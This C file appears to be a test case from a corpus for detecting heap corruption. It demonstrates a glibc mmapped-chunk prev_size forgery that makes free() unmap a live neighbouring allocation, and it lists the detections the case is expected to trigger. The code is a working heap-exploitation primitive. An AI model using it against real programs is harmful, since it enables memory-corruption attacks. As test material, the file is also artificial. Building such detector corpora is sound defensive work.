/* SPDX-License-Identifier: MIT */
/* mmapped chunk prev_size forgery: an mmapped chunk's prev_size holds the
 * offset of the chunk in its mapping; pointing it back over a neighbouring
 * mmapped chunk makes free() unmap the neighbour, still in use.
 * EXPECT-FULL: mmap-corruption,header-corruption
 * EXPECT-FAST: mmap-corruption,header-corruption
 * glibc 2.36: attack succeeds (the live neighbour is unmapped). */
#include "corpus.h"
#include <errno.h>
#include <sys/mman.h>

int main(void)
{
	mallopt(M_MMAP_THRESHOLD, 128 * 1024); /* no dynamic threshold */
	char *hi = malloc(0x100000), *lo = malloc(0x100000);
	if (lo > hi) {
		char *t = lo;
		lo = hi;
		hi = t;
	}
	memset(lo, 'l', 0x100000);
	size_t *prev = (size_t *)(hi - 16);
	*prev += (size_t)(hi - lo); /* the corruption: back over lo */
	free(hi);
	unsigned char v;
	int gone = mincore((void *)((uintptr_t)lo & ~(uintptr_t)4095), 4096, &v) != 0 &&
		   errno == ENOMEM;
	return corpus_result(gone);
}
